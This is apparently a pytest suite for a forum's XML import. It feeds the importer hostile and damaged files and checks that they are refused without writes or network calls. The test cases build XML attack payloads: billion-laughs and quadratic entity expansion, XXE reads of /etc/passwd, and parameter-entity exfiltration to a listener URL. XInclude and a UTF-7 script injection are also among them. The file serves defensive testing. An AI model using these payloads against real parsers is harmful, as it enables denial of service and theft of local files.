"""Family 2, XML attacks and damaged files: a clear error, nothing written, nothing fetched.

Every file goes through ``forum import``'s own entry point (import_file) in a separate
process limited to 512 MiB of address space (import_worker.py), against the suite's
database with earlier data in it. Each case: the import is refused with a message that
names the file (and the line and column where the parser has one), no row of any table
changes, a TCP listener on loopback that the file points at gets no connection, and it
takes less than 2 s. Files that are valid exports with an inert hostile part (a namespace
or stylesheet pointing at the listener) import, fetch nothing, and stay inert.
"""

from __future__ import annotations

import gzip
import io
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from flask import Flask

from tests.adversarial.htmlcheck import assert_safe
from tests.adversarial.support import ImportWorker, import_path
from tests.wxr_builder import C, P, wxr

SECONDS = 2.0
MEMORY = 512 << 20
XI = "http://www.w3.org/2001/XInclude"


def export(content: str = "A comment.", *, declaration: bool = True) -> str:
    """A small, valid WXR export; ``content`` goes in the comment as is (no CDATA)."""
    text = wxr([P("501", title="Attacked", comments=[C("1", content="@@")])])
    text = text.replace("<![CDATA[@@]]>", content)
    return text if declaration else text.split("\n", 1)[1]


def with_dtd(subset: str, content: str = "&x;") -> str:
    return f'<?xml version="1.0"?>\n<!DOCTYPE rss [{subset}]>\n' + export(
        content, declaration=False
    )


def billion_laughs() -> str:
    levels = '<!ENTITY l0 "lol">' + "".join(
        f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)
    )
    return with_dtd(levels + '<!ENTITY x "&l9;">')


def disqus(body: str, *, prolog: str = '<?xml version="1.0" encoding="utf-8"?>\n') -> str:
    return (
        prolog + '<disqus xmlns="http://disqus.com" xmlns:dsq="http://disqus.com/disqus-internals">'
        '<thread dsq:id="1"><link>https://attacked.example.org/a/</link><title>T</title></thread>'
        f'<post dsq:id="2"><message>{body}</message><thread dsq:id="1"/>'
        "<author><name>A</name></author></post></disqus>"
    )


def zip_file() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("export.xml", export())
    return buffer.getvalue()


@dataclass(frozen=True)
class Case:
    build: Callable[[str], str | bytes]  # the listener's URL -> the file's content
    format: str | None = None  # None: detected, as `forum import FILE` does
    recover: bool = False
    expect: str = "refused"  # "refused", or "imported" (a valid export, inert)
    positioned: bool = True  # the error names a line (and a column, where there is one)
    xfail: str | None = None


# The attacks: refused, with and without --recover, detected or named.
ATTACKS: dict[str, Case] = {
    "billion-laughs": Case(lambda u: billion_laughs()),
    "quadratic-blowup": Case(
        lambda u: with_dtd(f'<!ENTITY x "{"A" * 50_000}">', "&x;" * 20_000), format="wxr"
    ),
    "external-entity-local-file": Case(
        lambda u: with_dtd('<!ENTITY x SYSTEM "file:///etc/passwd">')
    ),
    "external-entity-in-attribute": Case(
        lambda u: with_dtd('<!ENTITY x SYSTEM "file:///etc/hostname">').replace(
            "<rss ", '<rss data="&x;" ', 1
        )
    ),
    "external-entity-listener": Case(lambda u: with_dtd(f'<!ENTITY x SYSTEM "{u}/entity">')),
    "external-dtd-system": Case(
        lambda u: (
            f'<?xml version="1.0"?>\n<!DOCTYPE rss SYSTEM "{u}/x.dtd">\n'
            + export(declaration=False)
        )
    ),
    "external-dtd-public": Case(
        lambda u: (
            f'<?xml version="1.0"?>\n<!DOCTYPE rss PUBLIC "-//X//DTD X//EN" "{u}/p.dtd">\n'
            + export(declaration=False)
        )
    ),
    "parameter-entity-listener": Case(
        lambda u: with_dtd(f'<!ENTITY % p SYSTEM "{u}/param.dtd"> %p;', "A comment.")
    ),
    "parameter-entity-exfiltration": Case(
        lambda u: with_dtd(
            '<!ENTITY % f SYSTEM "file:///etc/hostname">'
            f"<!ENTITY % e \"<!ENTITY &#x25; s SYSTEM '{u}/?%f;'>\"> %e; %s;",
            "A comment.",
        )
    ),
    "entity-in-disqus": Case(
        lambda u: disqus(
            "&x;",
            prolog=f'<?xml version="1.0"?>\n<!DOCTYPE disqus [<!ENTITY x SYSTEM "{u}/d">]>\n',
        )
    ),
    "billion-laughs-disqus": Case(
        lambda u: disqus(
            "&x;",
            prolog='<?xml version="1.0"?>\n<!DOCTYPE disqus ['
            + '<!ENTITY l0 "lol">'
            + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
            + '<!ENTITY x "&l9;">]>\n',
        ),
        format="disqus",
    ),
}
# XInclude needs no DTD: the parser never processes it and nothing is fetched; the file is
# refused rather than imported with the include silently left out.
XINCLUDE: dict[str, Case] = {
    "xinclude-listener": Case(
        lambda u: export(f'<xi:include xmlns:xi="{XI}" href="{u}/xi.xml"/>'),
    ),
    "xinclude-local-file": Case(
        lambda u: export(f'<xi:include xmlns:xi="{XI}" href="file:///etc/passwd" parse="text"/>'),
    ),
}
DAMAGED: dict[str, Case] = {
    "unknown-encoding": Case(
        lambda u: export().replace('encoding="UTF-8"', 'encoding="x-no-such-charset"')
    ),
    "ebcdic-declared": Case(lambda u: export().replace('encoding="UTF-8"', 'encoding="EBCDIC-US"')),
    "utf16-declared-utf8-bytes": Case(
        lambda u: export().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    ),
    "utf16-bytes-detected": Case(
        lambda u: export().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"),
        positioned=False,  # detection refuses it before any parser runs
    ),
    "invalid-utf8": Case(
        lambda u: export().encode().replace(b"A comment.", b"A \xff\xfe comment.")
    ),
    "utf8-encoded-surrogate": Case(
        lambda u: export().encode().replace(b"A comment.", b"A \xed\xa0\x80 comment.")
    ),
    "overlong-utf8": Case(
        lambda u: export().encode().replace(b"A comment.", b"A \xc0\xbc comment.")
    ),
    "nul-byte": Case(lambda u: export().encode().replace(b"A comment.", b"A \x00 comment.")),
    "truncated-half": Case(lambda u: export()[: len(export()) // 2]),
    "truncated-in-cdata": Case(lambda u: export("<![CDATA[a comment that never")),
    "truncated-after-root-open": Case(lambda u: export().split("<channel>")[0]),
    "empty-file": Case(lambda u: "", positioned=False),
    "empty-file-named-wxr": Case(lambda u: "", format="wxr", positioned=False),
    "whitespace-only": Case(lambda u: " \n\t\n", positioned=False),
    "zip-named-xml": Case(lambda u: zip_file(), positioned=False),
    "zip-named-wxr": Case(lambda u: zip_file(), format="wxr"),
    "gzip-named-xml": Case(lambda u: gzip.compress(export().encode()), positioned=False),
    "html-named-wxr": Case(
        lambda u: (
            "<!doctype html><html><head><title>Hi</title></head>"
            "<body><h1>Hello</h1><p>Text.</p></body></html>"
        ),
        format="wxr",
    ),
    "html-named-disqus": Case(
        lambda u: "<html><body><p>Not an export<br></p></body></html>", format="disqus"
    ),
    "rss-not-wxr": Case(
        lambda u: (
            '<?xml version="1.0"?><rss version="2.0"><channel><title>News</title>'
            "<item><title>A headline</title><link>https://news.example.org/1</link></item>"
            "</channel></rss>"
        ),
        positioned=False,
    ),
    "rss-not-wxr-named-wxr": Case(
        lambda u: (
            '<?xml version="1.0"?><rss version="2.0"><channel><title>News</title>'
            "<item><title>A headline</title><link>https://news.example.org/1</link></item>"
            "</channel></rss>"
        ),
        format="wxr",
        positioned=False,
    ),
    "declaration-after-comment": Case(lambda u: "<!-- exported -->\n" + export()),
    "declaration-after-element": Case(lambda u: "<x/>" + export()),
    "declaration-twice": Case(lambda u: '<?xml version="1.0"?>\n' + export()),
    "undeclared-entity": Case(lambda u: export("&x;")),
    "deep-nesting-50000": Case(lambda u: export("<a>" * 50_000 + "</a>" * 50_000)),
    "huge-text-node-11mb": Case(lambda u: export("<![CDATA[" + "A" * (11 << 20) + "]]>")),
    "two-roots": Case(lambda u: export() + export(declaration=False)),
    "garbage-after-root": Case(lambda u: export() + "<<<>>>"),
}
# Valid exports whose hostile part is inert: they import, and fetch nothing.
INERT: dict[str, Case] = {
    "stylesheet-pi-listener": Case(
        lambda u: export().replace(
            "\n", f'\n<?xml-stylesheet type="text/xsl" href="{u}/style.xsl"?>\n', 1
        ),
        expect="imported",
    ),
    "schema-location-listener": Case(
        lambda u: export().replace(
            "<rss ",
            f'<rss xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            f'xsi:schemaLocation="http://wordpress.org/export/1.2/ {u}/wxr.xsd" ',
            1,
        ),
        expect="imported",
    ),
    "namespace-uri-listener": Case(
        lambda u: export().replace("<rss ", f'<rss xmlns:evil="{u}/ns" ', 1), expect="imported"
    ),
    "utf7-script": Case(
        lambda u: export("+ADw-script+AD4-alert(1)+ADw-/script+AD4-").replace(
            'encoding="UTF-8"', 'encoding="UTF-7"'
        ),
        expect="imported",
    ),
}

# --recover salvages damaged files; it must never let an attack through either.
RECOVER_XFAIL: dict[str, str] = {}
CASES: list[tuple[str, Case]] = [
    *ATTACKS.items(),
    *(
        (
            f"{slug}-recover",
            Case(c.build, c.format, True, c.expect, c.positioned, RECOVER_XFAIL.get(slug)),
        )
        for slug, c in ATTACKS.items()
    ),
    *XINCLUDE.items(),
    *DAMAGED.items(),
    *INERT.items(),
]


def _params():
    total = len(CASES)
    return [
        pytest.param(
            slug,
            case,
            id=f"xml-{n:03d}-of-{total}-{slug}",
            marks=[pytest.mark.xfail(strict=True, reason=case.xfail)] if case.xfail else [],
        )
        for n, (slug, case) in enumerate(CASES, 1)
    ]


@pytest.fixture(scope="module")
def worker(app: Flask, database_url: str, tmp_path_factory) -> Iterator[ImportWorker]:
    """The import process, with earlier data in the database that must stay untouched."""
    earlier = tmp_path_factory.mktemp("xml-earlier") / "earlier.xml"
    earlier.write_text(wxr([P("1", title="Earlier", comments=[C("1"), C("2", parent="1")])]))
    import_path(app, earlier)
    process = ImportWorker(database_url)
    process.start()
    yield process
    process.stop()


def run_case(worker: ImportWorker, listener, tmp_path: Path, slug: str, case: Case) -> dict:
    content = case.build(listener.url)
    path = tmp_path / f"{slug}.xml"
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8")
    answer = worker.run(path, format=case.format, recover=case.recover)
    # Timing on a shared machine: the best of three, as the bound is for the work.
    for _ in range(2):
        if answer.get("cpu_seconds", 0) < SECONDS or "crash" in answer:
            break
        again = worker.run(path, format=case.format, recover=case.recover)
        if case.expect == "imported":
            break  # a second import of the same file is a re-import, not the same work
        answer["cpu_seconds"] = min(answer["cpu_seconds"], again["cpu_seconds"])
    answer["path"] = str(path)
    return answer


@pytest.mark.parametrize("slug, case", _params())
def test_hostile_or_damaged_file(worker, listener, tmp_path, slug, case):
    answer = run_case(worker, listener, tmp_path, slug, case)
    assert "crash" not in answer, answer.get("traceback") or answer["crash"]
    assert listener.connections == [], "the import reached out to the network"
    # The bound is on the work (CPU time); the wall clock only catches a wait, say on the
    # network, with room for a busy machine.
    assert answer["cpu_seconds"] < SECONDS, f"took {answer['cpu_seconds']:.2f} s of CPU"
    assert answer["seconds"] < 5 * SECONDS, f"took {answer['seconds']:.2f} s"
    assert answer["max_rss_bytes"] < MEMORY
    if case.expect == "imported":
        assert "report" in answer, answer.get("error")
        return
    assert "error" in answer, (
        f"imported instead of refused: {answer.get('report', {}).get('posts')}"
    )
    error = answer["error"]
    assert answer["path"] in error["message"], "the error names the file"
    assert error["reason"] and len(error["reason"]) > 10
    if case.positioned:
        assert error["line"] is not None and error["line"] >= 1, error
    assert answer["after"] == answer["before"], "nothing written"


@pytest.mark.parametrize("slug", sorted(XINCLUDE))
def test_xinclude_fetches_and_includes_nothing(worker, listener, tmp_path, app, slug):
    """Whatever XInclude does to the import, it never fetches or includes anything."""
    answer = run_case(worker, listener, tmp_path, slug, XINCLUDE[slug])
    assert "crash" not in answer
    assert listener.connections == []
    from sqlalchemy import select

    from forum.extensions import db
    from forum.models import Comment

    with app.app_context():
        bodies = db.session.execute(select(Comment.body_raw, Comment.body_html)).all()
        db.session.remove()
    assert not any("root:" in raw or "root:" in cleaned for raw, cleaned in bodies)


def test_inert_parts_are_sanitized(app):
    """The UTF-7 file decodes to a script in a comment: it is stored inert."""
    from sqlalchemy import select

    from forum.extensions import db
    from forum.models import Comment

    with app.app_context():
        for (body,) in db.session.execute(select(Comment.body_html)):
            assert_safe(body)
        db.session.remove()
